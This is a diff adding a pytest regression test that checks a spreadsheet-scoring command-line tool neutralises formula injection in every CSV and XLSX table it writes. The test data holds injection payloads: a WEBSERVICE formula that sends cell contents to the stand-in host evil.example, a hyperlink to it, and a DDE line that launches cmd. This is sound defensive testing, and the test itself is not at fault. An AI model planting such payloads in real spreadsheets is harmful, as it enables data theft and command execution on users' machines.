@@ -182,3 +182,54 @@ def test_every_command_has_a_smoke_test():
 
     commands = set(build_parser()._subparsers._group_actions[0].choices)
     assert commands - set(SMOKE) == {"report", "serve"}  # run as processes in test_reports.py and test_serve.py
+
+
+PAYLOADS = {  # issue 18, finding 1: workbook text that a spreadsheet would run as a formula
+    ("accounts", "Supermercados Peñíscola"): '=WEBSERVICE("http://evil.example/?"&B2)',
+    ("accounts", "Hoteles Mirasol"): '=HYPERLINK("http://evil.example","x")',
+    ("kams", "Jordi Ibáñez"): "@SUM(1+1)*cmd|' /C calc'!A0",
+    ("customers", "Supermercados Peñíscola"): "+1+1",
+}
+OUTPUTS = {
+    "score": ("score", "{wb}", "--out", "{out}"),
+    "time": ("time", "{wb}", "--out", "{out}"),
+    "compare": ("compare", "{wb}", "{scenario}", "--out", "{out}"),
+    "robustness": ("robustness", "{wb}", "--draws", "200", "--seed", "1", "--out", "{out}"),
+    "select": ("select", "{wb}", "--out", "{out}"),
+    "assign": ("assign", "{wb}", "--out", "{out}"),
+}
+
+
+@pytest.mark.parametrize("command", sorted(OUTPUTS))
+def test_no_workbook_text_becomes_a_formula_in_any_table_kam_writes(command, tmp_path, tiny_path):
+    import csv
+    import shutil
+
+    import openpyxl
+
+    from kamlib.fileio import FORMULA_START
+
+    wb = tmp_path / "wb"
+    shutil.copytree(tiny_path, wb)
+    for (sheet, old), new in PAYLOADS.items():
+        path = wb / f"{sheet}.csv"
+        text = path.read_text(encoding="utf-8")
+        path.write_text(text.replace(old, '"' + new.replace('"', '""') + '"'), encoding="utf-8")
+    (tmp_path / "s.yaml").write_text("name: t\nweights: {service: 0}\ncuts: {potential: 8}\n", encoding="utf-8")
+    shown = set()
+    for suffix in (".csv", ".xlsx"):
+        out = tmp_path / f"{command}{suffix}"
+        where = {"wb": wb, "out": out, "scenario": tmp_path / "s.yaml"}
+        result = run_kam(*(a.format(**where) for a in OUTPUTS[command]))
+        assert result.returncode == 0, result.stderr
+        if suffix == ".csv":
+            rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
+            cells = [c for row in rows for c in row if c.startswith(FORMULA_START)]
+            assert all(c.lstrip("-").replace(".", "", 1).isdigit() for c in cells), cells  # negative numbers only
+            shown |= {c for row in rows for c in row if c.startswith("'")}
+        else:
+            sheet = openpyxl.load_workbook(out).active
+            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+            texts = {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+            shown |= {"'" + t for t in texts if t in PAYLOADS.values()}
+    assert shown & {"'" + p for p in PAYLOADS.values()}  # the table did carry a payload, made harmless
